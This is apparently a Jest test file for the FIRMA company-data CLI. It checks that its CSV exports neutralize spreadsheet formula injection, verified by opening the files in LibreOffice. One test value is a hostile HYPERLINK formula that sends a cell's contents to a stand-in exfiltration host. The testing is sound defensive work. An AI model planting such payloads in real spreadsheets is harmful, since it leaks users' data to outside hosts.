/**
 * Text from the service never becomes a formula in a CSV FIRMA writes (OWASP's CSV injection).
 * The sandbox's `formulaText` makes names, addresses and statuses begin with each trigger (=, +, -, @,
 * and a tab or a carriage return before one); `firma refresh --csv --changes` writes them; LibreOffice
 * then opens each CSV with formulas evaluated and saves it as .xlsx: no cell holds a formula, every
 * name reads as its text. A naive CSV of the same text, opened the same way, does hold formulas: the
 * check can fail. The sheet's own cells (text that begins with a trigger, a formula whose value does,
 * a negative number) come through --csv safely too.
 */
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "fs";
import { tmpdir } from "os";
import { join } from "path";
import { buildWorkbook, BuildCell } from "../fixtures/build-workbook";
import * as cli from "../support/cli";
import { Workbook } from "../../src/shared/xlsx/workbook";
import { startSandbox, Sandbox } from "../../sandbox/server";
import * as data from "../../sandbox/dataset";
import { formulaTextOf, withFormulaText } from "../../sandbox/formula-text";
import { hasSoffice, openCsvInLibreOffice, unzipText } from "./helpers";
import { parseCsv, startsLikeFormula } from "../support/csv";

let sb: Sandbox;
let dir: string;

beforeAll(async () => {
  sb = await startSandbox({ port: 0 });
  dir = mkdtempSync(join(tmpdir(), "firma-csv-formula-"));
});
afterAll(async () => {
  await sb.close();
  rmSync(dir, { recursive: true, force: true });
});

/** One company for each field and trigger of `formulaText` (3 × 6), and two it leaves alone. */
const CUIS = (() => {
  const picked = new Map<string, number>();
  for (const cui of data.sampleCuis(2_000, 3030)) {
    const f = formulaTextOf(cui);
    const key = f ? `${f.field}:${f.prefix}` : `none:${picked.size}`;
    if (!picked.has(key) && (f || [...picked.keys()].filter((k) => k.startsWith("none")).length < 2)) picked.set(key, cui);
  }
  return [...picked.values()];
})();

/** The text FIRMA shows for a company's field under `formulaText` (the client trims what it reads). */
const shown = (cui: number, field: "denumire" | "adresa" | "stare") => String(withFormulaText(data.company(cui)!)[field]).trim();

/** The user's own cells: text that begins with a trigger, an ordinary formula whose value does, a negative number. */
const NOTES = ["=1+1", "+40 21 123 45 67", "-fără TVA", "@ana", "notă simplă"];

function book(): string {
  const rows: BuildCell[][] = [["CUI", "Denumire", "Stare", "Adresa", "Notă", "Calcul", "Sold"]];
  CUIS.forEach((c, i) => {
    const r = i + 2;
    rows.push([
      c,
      { formula: `=FIRMA.DENUMIRE(A${r})` },
      { formula: `=FIRMA.STARE(A${r})` },
      { formula: `=FIRMA.ADRESA(A${r})` },
      NOTES[i % NOTES.length],
      { formula: `="="&"${i}+1"`, form: "plain", cached: `=${i}+1` },
      -1200 - i,
    ]);
  });
  const file = join(dir, "firme.xlsx");
  writeFileSync(file, buildWorkbook({ sheets: [{ name: "Firme", rows }] }));
  return file;
}

/** `firma …` with this file's key, against the sandbox, without the progress bar. */
const firma = (args: string[]) => cli.firma(args, { args: ["--no-progress"], key: "demo-enterprise-formula-text", baseUrl: sb.url });

/** The values of the first sheet of an .xlsx, row by row (A1 first), through the CLI's own reader. */
function sheetValues(file: string): { values: unknown[][]; formulas: number } {
  const bytes = new Uint8Array(readFileSync(file));
  const wb = Workbook.open(bytes);
  const sheet = wb.parseSheet(wb.sheets[0].name);
  const values: unknown[][] = [];
  for (const c of sheet.cells.values()) (values[c.row - 1] ??= [])[c.col - 1] = wb.valueOf(c, sheet);
  const xml = [...unzipText(bytes).entries()]
    .filter(([n]) => n.startsWith("xl/worksheets/"))
    .map(([, x]) => x)
    .join("");
  return { values, formulas: (xml.match(/<f[ >]/g) ?? []).length };
}

const lo = hasSoffice() ? test : test.skip;

test("the sample covers every field and trigger of formulaText", () => {
  const kinds = new Set(CUIS.map((c) => formulaTextOf(c)).map((f) => (f ? `${f.field}:${f.prefix}` : "none")));
  expect(kinds.size).toBe(3 * 6 + 1);
  expect(CUIS).toHaveLength(20);
});

lo(
  "firma refresh --csv --changes: no field begins with a trigger, and LibreOffice shows every text as text",
  async () => {
    const file = book();
    const cache = join(dir, "cache");
    const csv = join(dir, "firme.csv");
    const changes = join(dir, "changes.csv");

    // First refresh: the service's text begins with triggers.
    sb.config.formulaText = true;
    const first = await firma(["refresh", file, "--cache-dir", cache, "--csv", csv]);
    expect(first.code).toBe(0);

    // Second refresh: the registry has cleaned the text, and one status now begins with "=" itself:
    // the changes' before and after hold triggers.
    sb.config.formulaText = false;
    const hostile = '=HYPERLINK("https://exfil.invalid/?"&A1,"Activă")';
    sb.config.overrides = { [String(CUIS[CUIS.length - 1])]: { stare: hostile } };
    const second = await firma(["refresh", file, "--cache-dir", cache, "--changes", changes, "--force", "--out", join(dir, "second.xlsx")]);
    expect(second.code).toBe(0);
    sb.config.overrides = {};

    // --csv: the sheet as written, every field checked.
    const rows = parseCsv(readFileSync(csv, "utf8"));
    expect(rows[0]).toEqual(["CUI", "Denumire", "Stare", "Adresa", "Notă", "Calcul", "Sold"]);
    expect(rows).toHaveLength(CUIS.length + 1);
    const offending = rows.flat().filter(startsLikeFormula);
    expect(offending).toEqual([]);
    let neutralized = 0;
    CUIS.forEach((cui, i) => {
      const row = rows[i + 1];
      const expected = [shown(cui, "denumire"), shown(cui, "stare"), shown(cui, "adresa"), NOTES[i % NOTES.length], `=${i}+1`];
      expect(row[0]).toBe(String(cui));
      expected.forEach((text, j) => {
        const safe = /^[=+\-@\t\r]/.test(text);
        if (safe) neutralized++;
        expect(row[j + 1]).toBe(safe ? `'${text}` : text);
      });
      expect(row[6]).toBe(String(-1200 - i)); // a number stays a plain number
    });
    // 18 fields of the service's text, 20 formula values and 16 of the 20 notes.
    expect(neutralized).toBe(18 + 20 + 16);

    // --changes: before (the hostile text) and after (clean, or hostile for the one status).
    const changed = parseCsv(readFileSync(changes, "utf8"));
    expect(changed[0]).toEqual(["CUI", "câmp/field", "înainte/before", "după/after", "date"]);
    expect(changed.length - 1).toBe(19);
    expect(changed.flat().filter(startsLikeFormula)).toEqual([]);
    expect(changed.find((r) => r[0] === String(CUIS[CUIS.length - 1]) && r[1] === "stare")![3]).toBe(`'${hostile}`);

    // LibreOffice, formulas evaluated: no cell is a formula; each text reads as itself after its "'".
    const naive = join(dir, "naive.csv");
    writeFileSync(naive, `\ufeffDenumire\r\n${CUIS.map((c) => `"${shown(c, "denumire").replace(/"/g, '""')}"`).join("\r\n")}\r\n`);
    const [sheetX, changesX, naiveX] = openCsvInLibreOffice(dir, [csv, changes, naive]);
    const opened = sheetValues(sheetX);
    expect(opened.formulas).toBe(0);
    CUIS.forEach((cui, i) => {
      const name = opened.values[i + 1][1];
      expect(typeof name).toBe("string");
      expect(String(name).replace(/^'/, "")).toBe(shown(cui, "denumire"));
      expect(opened.values[i + 1][6]).toBe(-1200 - i);
    });
    const openedChanges = sheetValues(changesX);
    expect(openedChanges.formulas).toBe(0);
    expect(openedChanges.values.flat().filter((v) => typeof v === "string" && v.startsWith("=HYPERLINK"))).toEqual([]);
    // The same names written as they come: LibreOffice makes formulas of those that begin with "=", "+" or "-".
    expect(sheetValues(naiveX).formulas).toBeGreaterThan(0);
  },
  240_000,
);
